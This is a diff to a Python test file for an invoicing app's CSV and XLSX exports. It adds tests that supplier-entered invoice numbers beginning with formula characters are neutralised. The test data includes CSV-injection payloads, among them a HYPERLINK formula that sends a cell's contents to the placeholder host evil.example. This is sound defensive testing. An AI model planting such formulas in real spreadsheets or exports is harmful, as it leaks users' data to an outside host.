@@ -1,6 +1,7 @@
 """Dashboards' searches (search.py): scope, every filter, sort, counts, synthèse, hidden « mise en paiement »,
 CSV and XLSX exports."""
 
+import csv
 import datetime
 import io
 from decimal import Decimal
@@ -296,6 +297,30 @@ def test_xlsx_export_has_typed_cells(supplier, buyer, buyer_user):
     assert first["Montant TTC"] == pytest.approx(99.90)
     assert first["Date de facture"].date() == datetime.date(2026, 1, 5)
     assert first["Téléchargée par le destinataire"] == "non"
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1;"clic")', "+1+2", "-3+4", "@SUM(A1)")
+
+
+@pytest.mark.parametrize("number", FORMULAS)
+def test_csv_export_neutralises_formulas_in_supplier_text(supplier, buyer, buyer_user, number):
+    # The invoice number is the supplier's: in the buyer's CSV it must stay text, not run as a formula.
+    sent(supplier, buyer, number=number, total_ttc=Decimal("-12.50"))
+    text = "".join(search.export_csv(received(buyer_user), side=RECEIVED))
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    cells = dict(zip(rows[0], rows[1], strict=True))
+    assert cells["Numéro"] == "'" + number
+    assert cells["Montant TTC"] == "-12,50"  # amounts stay numbers, negative ones included
+
+
+@pytest.mark.parametrize("number", FORMULAS)
+def test_xlsx_export_stores_supplier_text_as_text(supplier, buyer, buyer_user, number):
+    from openpyxl import load_workbook
+
+    sent(supplier, buyer, number=number)
+    content = search.export_xlsx(received(buyer_user), side=RECEIVED)
+    cell = load_workbook(io.BytesIO(content)).active["A2"]
+    assert cell.value == number and cell.data_type == "s"
 
 
 def test_hidden_payment_date_is_not_exported_to_the_supplier(supplier, buyer, seller_user, buyer_user):
